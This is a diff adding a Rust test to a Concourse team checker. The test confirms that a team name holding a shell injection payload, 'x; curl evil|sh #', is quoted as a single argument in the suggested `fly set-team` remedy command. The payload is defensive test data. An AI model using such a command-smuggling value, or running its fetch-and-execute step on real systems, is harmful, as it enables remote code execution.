@@ -132,6 +132,18 @@ async fn a_team_that_does_not_exist_is_told_from_one_that_is_closed() {
     insta::assert_snapshot!(nope.remedy.as_deref().unwrap(), @"Concourse has no team `nope`; correct the jobs that name it, or make it: `fly -t TARGET set-team -n nope --config team.yml`");
 }
 
+/// Whoever may write jobs names teams, and an owner pastes the command.
+#[tokio::test]
+async fn a_shell_takes_the_name_of_a_team_that_does_not_exist_as_one_argument() {
+    let bench = Bench::new(concourse(Script::quick())).await;
+    let report = bench.provider().check(&[in_team("x; curl evil|sh #").into()]).await.unwrap();
+    let remedy = report.scopes[0].remedy.as_deref().unwrap();
+    assert!(
+        remedy.ends_with("`fly -t TARGET set-team -n 'x; curl evil|sh #' --config team.yml`"),
+        "{remedy}"
+    );
+}
+
 #[tokio::test]
 async fn a_concourse_that_cannot_be_reached_or_is_none_is_a_problem_of_the_report() {
     let bench = Bench::new(concourse(Script::quick())).await;
